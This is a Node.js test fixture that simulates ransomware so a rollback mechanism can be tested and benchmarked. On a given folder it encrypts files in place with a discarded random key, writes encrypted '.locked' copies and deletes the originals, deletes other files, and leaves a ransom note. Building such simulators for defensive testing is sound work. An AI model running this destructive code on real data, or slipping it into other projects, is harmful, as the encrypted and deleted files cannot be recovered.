#!/usr/bin/env node
// A ransomware-like child for rollback.process.test.ts and the rollback bench: in a
// folder, for each file (sorted): every third is encrypted in place, every third
// gets an encrypted `<name>.locked` copy and is deleted, every third is deleted;
// then a ransom note. Prints one JSON line at the end: what it did, by name.
//
//   node locker-child.fixture.mjs --folder DIR [--count N]   (N: files touched, default all)
import { createCipheriv, randomBytes } from 'node:crypto';
import { readdirSync, readFileSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseArgs } from 'node:util';

const { values } = parseArgs({ options: { folder: { type: 'string' }, count: { type: 'string' } } });
const folder = values.folder;
if (!folder) throw new Error('--folder is required');
const names = readdirSync(folder).sort();
const count = values.count === undefined ? names.length : Number(values.count);
const key = randomBytes(32);
const done = { overwritten: [], renamed: [], deleted: [] };

function encrypt(content) {
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-cbc', key, iv);
  return Buffer.concat([iv, cipher.update(content), cipher.final()]);
}

for (const [i, name] of names.slice(0, count).entries()) {
  const path = join(folder, name);
  if (i % 3 === 0) {
    writeFileSync(path, encrypt(readFileSync(path)));
    done.overwritten.push(name);
  } else if (i % 3 === 1) {
    writeFileSync(`${path}.locked`, encrypt(readFileSync(path)));
    unlinkSync(path);
    done.renamed.push(name);
  } else {
    unlinkSync(path);
    done.deleted.push(name);
  }
}
writeFileSync(join(folder, 'HOW-TO-RECOVER.locked'), 'send bitcoin');
process.stdout.write(`${JSON.stringify(done)}\n`);
